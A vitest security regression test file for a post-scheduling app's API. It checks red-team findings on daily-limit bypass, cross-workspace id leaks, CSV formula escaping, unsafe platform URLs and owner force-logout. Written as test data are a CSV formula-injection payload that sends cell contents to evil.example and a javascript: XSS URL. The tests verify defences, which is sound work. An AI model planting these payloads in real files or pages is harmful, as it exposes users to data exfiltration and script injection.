import { describe, expect, it } from 'vitest';
import { apiRoutes } from '../../src-main/server/api-spec';
import type { Channel } from '../../src-shared/contract';
import { clientWithMastodon, rest, restPostFor, startTestApp } from '../support/app';
import { OWNER, TEST_PASSWORD } from '../support/engine';
import { PNG_1x1 } from '../support/images';
import { startMastodonServer } from '../support/mastodon-server';
import { addConnection } from '../support/posting';
import { adaptersWithPublish } from '../support/scheduler';

/*
 * Red-team findings of issue 9 against the engine's rules (items 1, 4, 5, 7, 8), through the
 * REST API and the contract as an attacker would use them.
 */

describe('issue 9 item 1: the daily limit cannot be bypassed by back-dating', () => {
  it('refuses past days over REST unless publishNow, then charges today; a second one meets the limit', async () => {
    const t = await startTestApp();
    const { client, platformId } = await clientWithMastodon(t);
    t.app.engine.ctx.db.prepare(`UPDATE managed_users SET daily_post_limit = 1 WHERE id = ?`).run(client.id);
    const backDated = await restPostFor(t, client.id, {
      text: 'Back-dated',
      platformIds: [platformId],
      scheduledTime: '2020-01-01T09:00:00.000Z',
    });
    expect(backDated.status).toBe(422);
    expect(backDated.body.error).toMatchObject({
      code: 'time_in_past',
      details: { fields: { scheduledTime: expect.any(String) } },
    });
    /** A post for a past day, confirmed with publishNow (what the refusal's action offers). */
    const confirmedPast = (text: string, day: string) =>
      restPostFor(t, client.id, {
        text,
        platformIds: [platformId],
        scheduledTime: `${day}T09:00:00.000Z`,
        publishNow: true,
      });
    const confirmed = await confirmedPast('Now, really', '2020-01-02');
    expect(confirmed.status).toBe(201);
    // It goes out now and counts today, not on 2 January 2020.
    expect(confirmed.body.scheduledTime).toBe(t.clock.now().toISOString());
    expect(confirmed.body.dailyPostsLeft).toBe(0);
    const another = await confirmedPast('And another', '2020-01-03');
    expect(another.status).toBe(403);
    expect(another.body.error).toMatchObject({ code: 'daily_limit_reached' });
  });

  it('refuses a draft moved to 2010 (PATCH) unless confirmed; a time a minute ago is simply now', async () => {
    const t = await startTestApp();
    const { client, platformId } = await clientWithMastodon(t);
    const draft = await t.app.engine.call('post.create', {
      workspaceId: t.workspaceId,
      userId: client.id,
      post: { text: 'A draft', platformIds: [platformId] },
    });
    const moved = await rest(t, 'PATCH', `/api/v1/post-groups/${draft.id}`, { scheduledTime: '2010-05-05T10:00:00Z' });
    expect(moved.status).toBe(422);
    expect(moved.body.error).toMatchObject({ code: 'time_in_past' });
    expect((await t.app.engine.call('post.get', { workspaceId: t.workspaceId, id: draft.id })).status).toBe('draft');
    const refused = await t.app.engine.dispatch('post.update', {
      workspaceId: t.workspaceId,
      id: draft.id,
      patch: { scheduledTime: '2010-05-05T10:00:00Z' },
    });
    expect(refused).toMatchObject({ ok: false, error: { code: 'time_in_past' } });
    const aMinuteAgo = new Date(t.clock.now().getTime() - 60_000).toISOString();
    const now = await t.app.engine.call('post.update', {
      workspaceId: t.workspaceId,
      id: draft.id,
      patch: { scheduledTime: aMinuteAgo },
    });
    expect(now).toMatchObject({ status: 'scheduled', scheduledTime: t.clock.now().toISOString() });
  });
});

describe('issue 9 item 4: an id from another workspace is not_found, on every channel and route that takes one', () => {
  it('answers not_found on every channel for workspace B with workspace C ids; 404 on every REST route', async () => {
    const t = await startTestApp();
    const engine = t.app.engine;
    const b = t.workspaceId;
    engine.ctx.db.prepare(`UPDATE workspaces SET plan_id = 'team'`).run();
    const other = await engine.call('workspace.create', { name: 'Other Agency', planId: 'team' });
    const c = other.id;
    await engine.call('integration.add', {
      workspaceId: c,
      integration: { platform: 'mastodon', clientId: 'app', clientSecret: 'secret', instanceUrl: 'https://m.example' },
    });
    const { client: cClient, platformId: cPlatformId } = await clientWithMastodon(t, c, 'someone@other.test', '4242');
    const cPost = await engine.call('post.create', {
      workspaceId: c,
      userId: cClient.id,
      post: { text: 'Theirs', platformIds: [cPlatformId] },
    });
    const cLink = await engine.call('connection.createLink', { workspaceId: c, userId: cClient.id });
    const cLinkId = (await engine.call('connection.listLinks', { workspaceId: c, userId: cClient.id }))[0]!.id;
    const invited = await engine.call('team.invite', {
      workspaceId: c,
      invite: { email: 'ed@other.test', role: 'editor', skipInvitationEmail: true },
    });
    const cTeam = await engine.call('team.list', { workspaceId: c });
    const cMember = cTeam.members[0]!.id;
    const cInvitation = cTeam.invitations[0]!.id;
    const cIntegration = (await engine.call('workspace.get', { workspaceId: c })).integrations[0]!.id;
    const cMedia = await engine.call('media.upload', {
      workspaceId: c,
      userId: cClient.id,
      file: { fileName: 'theirs.png', dataBase64: PNG_1x1.toString('base64') },
    });
    expect([cLink.connectionUrl, invited.code].every(Boolean)).toBe(true);
    // B has its own client, so a request is well-formed for B in every other way.
    const { client: bClient, platformId: bPlatformId } = await clientWithMastodon(t, b, 'own@acme.test');
    await engine.call('connection.createLink', { workspaceId: b, userId: bClient.id });
    const bLinkId = (await engine.call('connection.listLinks', { workspaceId: b, userId: bClient.id }))[0]!.id;

    const foreign = {
      userId: cClient.id,
      id: cPost.id,
      memberId: cMember,
      invitationId: cInvitation,
      linkId: cLinkId,
      integrationId: cIntegration,
      platformId: cPlatformId,
      mediaId: cMedia.id,
    } as const;
    // What else each channel needs to be well-formed.
    const rest: Partial<Record<Channel, Record<string, unknown>>> = {
      'client.update': { patch: { displayName: 'Renamed' } },
      'client.setActive': { active: false },
      'connection.addWithAppPassword': { platform: 'bluesky', identifier: 'x.bsky.social', appPassword: 'abcd-efgh' },
      'connection.setCredentialMode': { mode: 'member', memberId: cMember },
      'connection.setPostAs': { postAs: null },
      'post.create': { post: { text: 'x', platformIds: [bPlatformId] } },
      'post.update': { patch: { text: 'Changed' } },
      'post.list': { query: { page: 1, perPage: 10 } },
      'post.calendar': { query: { from: '2026-12-01', to: '2026-12-08' } },
      'queue.setSlots': { slots: [] },
      'media.upload': { file: { fileName: 'a.png', dataBase64: PNG_1x1.toString('base64') } },
      'media.beginUpload': { fileName: 'a.mp4', size: 10 },
      'media.update': { patch: { altText: 'x' } },
      'media.reshape': { aspect: '1:1' },
      'team.updateMember': { patch: { role: 'editor' } },
      'team.setMemberActive': { active: false },
      'approval.setPolicy': { policy: 'client' },
      'post.decide': { decision: { decision: 'approve' } },
      'post.addComment': { comment: { body: 'Looks good' } },
    };
    const idFields = Object.keys(foreign) as (keyof typeof foreign)[];
    const checked: string[] = [];
    const leaks: string[] = [];
    const { channels } = await import('../../src-shared/contract');
    for (const [channel, spec] of Object.entries(channels) as [Channel, { request: { shape?: object } }][]) {
      const shape = (spec.request as unknown as { shape?: Record<string, unknown> }).shape ?? {};
      if (!('workspaceId' in shape)) continue;
      for (const field of idFields.filter((f) => f in shape)) {
        const request: Record<string, unknown> = { workspaceId: b, ...rest[channel] };
        // Other id fields stay B's own where the channel needs them (none of B's here are foreign).
        if (field !== 'userId' && 'userId' in shape) request.userId = bClient.id;
        if (field !== 'platformId' && 'platformId' in shape) request.platformId = bPlatformId;
        if (field !== 'linkId' && 'linkId' in shape) request.linkId = bLinkId;
        request[field] = foreign[field];
        const before = engine.ctx.db.prepare(`SELECT total_changes() AS n`).get();
        const result = await engine.dispatch(channel, request);
        checked.push(`${channel}.${field}`);
        if (result.ok || result.error.code !== 'not_found')
          leaks.push(`${channel} with C's ${field}: ${result.ok ? 'ok' : result.error.code}`);
        void before;
      }
    }
    expect(leaks).toEqual([]);
    expect(checked).toContain('queue.getSlots.userId');
    expect(checked.length).toBeGreaterThan(25);

    // The same over REST with B's workspace key.
    const values: Record<string, string> = {
      userId: cClient.id,
      id: cPost.id,
      platformId: cPlatformId,
      memberId: cMember,
      invitationId: cInvitation,
      linkId: cLinkId,
      integrationId: cIntegration,
    };
    const restLeaks: string[] = [];
    for (const route of apiRoutes.filter((r) => r.path.includes(':'))) {
      const path = route.path.replace(/:(\w+)/g, (_, name: string) => encodeURIComponent(values[name] ?? cPost.id));
      const answer = await fetch(`${t.url}${path}`, {
        method: route.method.toUpperCase(),
        headers: {
          'x-publora-key': t.workspaceApiKey,
          'x-publora-user-id': cClient.id,
          'content-type': 'application/json',
        },
        body: route.method === 'get' || route.method === 'delete' ? undefined : '{}',
      });
      await answer.arrayBuffer();
      if (answer.status !== 404 && answer.status !== 400)
        restLeaks.push(`${route.method} ${route.path}: ${answer.status}`);
    }
    expect(restLeaks).toEqual([]);
  });
});

describe('issue 9 item 5: CSV exports escape formulas', () => {
  it('writes a member named =HYPERLINK(…) as text in the activity CSV', async () => {
    const t = await startTestApp();
    const engine = t.app.engine;
    engine.ctx.db.prepare(`UPDATE workspaces SET plan_id = 'team'`).run();
    const ownerProfile = engine.state().profile!.id;
    const evil = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
    const { code } = await engine.call('team.invite', {
      workspaceId: t.workspaceId,
      invite: { email: 'eve@agency.test', role: 'editor', skipInvitationEmail: true },
    });
    await engine.call('session.acceptInvitation', { code, name: evil, password: TEST_PASSWORD });
    await engine.signIn(ownerProfile, TEST_PASSWORD, t.workspaceId);
    const { csv } = await engine.call('activity.exportCsv', { workspaceId: t.workspaceId });
    // The "joined" entry's detail starts with the name: a spreadsheet would run it as a formula.
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const viaRest = await fetch(`${t.url}/api/v1/workspace/activity?format=csv`, {
      headers: { 'x-publora-key': t.workspaceApiKey },
    });
    const restCsv = await viaRest.text();
    expect(restCsv).toContain(`"'=HYPERLINK(`);
    expect(restCsv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('issue 9 item 7: platform-supplied URLs are https only', () => {
  it('drops a javascript: URL from a Mastodon answer instead of returning it from the REST API', async () => {
    const mastodon = await startMastodonServer();
    try {
      // The instance answers with a hostile link for the new status.
      const adapters = adaptersWithPublish('mastodon', (publish) => async (...args) => ({
        ...(await publish(...args)),
        url: 'javascript:alert(document.domain)',
      }));
      const t = await startTestApp({ scheduler: { adapters } });
      const engine = t.app.engine;
      await engine.call('integration.add', {
        workspaceId: t.workspaceId,
        integration: { platform: 'mastodon', clientId: 'app', clientSecret: 'secret', instanceUrl: mastodon.url },
      });
      const client = await engine.call('client.create', {
        workspaceId: t.workspaceId,
        client: { email: 'casey@client.test', displayName: 'Casey', timezone: 'UTC' },
      });
      const platformId = await addConnection(engine.ctx, t.workspaceId, client.id, 'mastodon', mastodon.account.id, {
        accessToken: mastodon.issueToken().accessToken,
      });
      const group = await engine.call('post.create', {
        workspaceId: t.workspaceId,
        userId: client.id,
        post: { text: 'Hello', platformIds: [platformId], scheduledTime: t.clock.now().toISOString() },
      });
      let delivery: { state: string; url: string | null } | undefined;
      let body = '';
      for (let i = 0; i < 100 && delivery?.state !== 'published'; i++) {
        await t.app.scheduler.runDue();
        const read = await rest(t, 'GET', `/api/v1/post-groups/${group.id}`);
        body = JSON.stringify(read.body);
        delivery = (read.body.deliveries as { state: string; url: string | null }[])[0]!;
        if (delivery.state !== 'published') await new Promise((r) => setTimeout(r, 50));
      }
      expect(delivery).toMatchObject({ state: 'published', url: null });
      expect(mastodon.statusTexts().map((s) => s.text)).toEqual(['Hello']);
      expect(body).not.toContain('javascript:');
    } finally {
      await mastodon.close();
    }
  });
});

describe('issue 9 item 8: the workspace API key cannot force-logout the owner', () => {
  it('answers 403 and leaves the owner signed in; a person of the workspace still can', async () => {
    const t = await startTestApp();
    const owner = (await t.app.engine.call('team.list', { workspaceId: t.workspaceId })).members.find(
      (m) => m.role === 'owner',
    )!;
    const refused = await rest(t, 'POST', `/api/v1/workspace/members/${owner.id}/force-logout`);
    expect(refused.status).toBe(403);
    expect(refused.body.error).toMatchObject({ code: 'forbidden' });
    expect(t.app.engine.state().profile?.email).toBe(OWNER.ownerEmail);
  });
});
